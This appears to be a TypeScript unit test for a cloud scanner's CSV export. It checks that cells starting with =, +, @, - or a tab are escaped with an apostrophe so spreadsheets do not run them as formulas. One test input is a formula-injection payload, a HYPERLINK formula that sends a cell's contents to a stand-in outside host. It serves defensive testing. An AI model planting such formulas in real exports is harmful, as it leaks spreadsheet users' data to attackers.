import assert from "node:assert/strict";
import { test } from "node:test";
import { csvHeader, csvRows } from "../../src/scan/finding-text.js";
import { idleFinding } from "../helpers/findings.js";

/** The cells of CSV text's one data row, by header, unquoted (no quoted field here holds a comma). */
function cells(text: string): Record<string, string> {
  const header = csvHeader().trim().split(",");
  const values = text.trim().split(",");
  return Object.fromEntries(header.map((h, i) => [h, values[i]!.replace(/^"|"$/g, "").replace(/""/g, '"')]));
}

test("CSV cells a spreadsheet would run as formulas begin with ', numbers and other text stay as they are", () => {
  // Names and teams come from tags, which anyone who may tag a resource sets.
  const row = cells(
    csvRows([
      idleFinding("i-1", {
        resource_name: '=HYPERLINK("http://x.example/?"&A1;"open")',
        team: "+team",
        account: "@SUM(A1)",
        region: "-us-east-1",
        message: "\tidle",
        provider: "-5",
        savings_monthly: "12.50",
      }),
    ]),
  );
  assert.deepEqual(
    [row.resource_name, row.team, row.account, row.region, row.message, row.provider, row.savings_monthly],
    [
      '\'=HYPERLINK("http://x.example/?"&A1;"open")',
      "'+team",
      "'@SUM(A1)",
      "'-us-east-1",
      "'\tidle",
      "-5",
      "12.50",
    ],
  );
  const plain = cells(csvRows([idleFinding("i-2", { team: "web-team", resource_name: "a=b" })]));
  assert.deepEqual([plain.team, plain.resource_name, plain.resource_id], ["web-team", "a=b", "i-2"]);
});
